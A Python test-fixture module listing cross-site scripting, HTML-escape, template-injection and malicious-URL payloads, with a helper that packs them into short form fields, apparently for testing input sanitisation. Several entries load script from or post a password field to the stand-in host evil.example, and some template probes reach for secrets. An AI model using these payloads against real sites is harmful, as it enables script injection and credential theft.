"""Texts that make a careless page run a script, one or more of each class."""

from __future__ import annotations

from collections.abc import Iterable

MARKUP = (
    # Elements
    "<script>alert(1)</script>",
    "<ScRiPt/src=//evil.example/a.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)>",
    "<embed src=//evil.example/a.swf>",
    "<form action=//evil.example><input type=password name=p><button>go",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/a.css>",
    "<portal-x onclick=alert(1)>x</portal-x>",
    # Out of an element, an attribute, a comment
    "</title><script>alert(1)</script>",
    "</textarea><img src=x onerror=alert(1)>",
    "</pre></code><svg onload=alert(1)>",
    "</option></select><img src=x onerror=alert(1)>",
    "--><img src=x onerror=alert(1)><!--",
    "]]><script>alert(1)</script><![CDATA[",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    "`><img src=x onerror=alert(1)>",
    '" autofocus onfocus=alert(1) x="',
    "' onmouseover='alert(1)",
    '" hx-get="//evil.example" hx-trigger="load" hx-on:click="alert(1)" x="',
    '" style="position:fixed;inset:0" data-x="',
    # Drawings and formulas
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg onload=alert(1)>'/></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    # Markup that browsers repair into something else
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<xmp></xmp><plaintext>",
    # Entities and other spellings
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\u2028alert(1)\u2029\u202e<b>\u202c",
    "＜script＞alert(1)＜/script＞",
    # Templates
    "{{ 7|add:7 }}{% debug %}{% include 'admin/base.html' %}",
    "${alert(1)} #{7*7} <%= 7*7 %> {{constructor.constructor('alert(1)')()}}",
    "%(secret)s {0.__class__} {request.user.password}",
    "[{<img src=x onerror=alert(1)>}, ...] {<b>} %s",
    # Style sheets, data blocks, programs
    "</style><style>*{background:url(//evil.example)}</style>",
    "expression(alert(1));-moz-binding:url(//evil.example)",
    '</script><script>alert(1)</script>{"@context":"',
    '","@type":"x"}</script><img src=x onerror=alert(1)>',
    "<!--<script>",
    '"""\nimport os\nos.abort()\n"""',
    "*/ alert(1); /*",
    "';alert(String.fromCharCode(88,83,83))//\\';alert(1)//",
)

ADDRESSES = (
    "javascript:alert(1)",
    "java\tscript:alert(1)",
    "&#106;avascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "//evil.example/%2e%2e/",
)

MARKDOWN = (
    "[click](javascript:alert(1))",
    '![x](https://evil.example/a.png"onerror="alert(1))',
    "<https://evil.example/><img src=x onerror=alert(1)>",
    "# heading\n\n* list\n\n    code\n\n> quote <b>",
    "```\n</code><img src=x onerror=alert(1)>\n```",
)

PAYLOADS = (*MARKUP, *ADDRESSES, *MARKDOWN)

SHORTEST_FIELD = 100
"""The length of the shortest field of the forms, in characters."""


def packed(texts: Iterable[str], between: str = "\n") -> list[str]:
    """Some texts in each, a line for each unless ``between`` says otherwise, as far as the shortest field holds all."""
    result: list[str] = []
    for text in sorted(texts, key=len, reverse=True):
        for place, others in enumerate(result):
            if len(others) + len(between) + len(text) <= SHORTEST_FIELD:
                result[place] = f"{others}{between}{text}"
                break
        else:
            result.append(text)
    return result
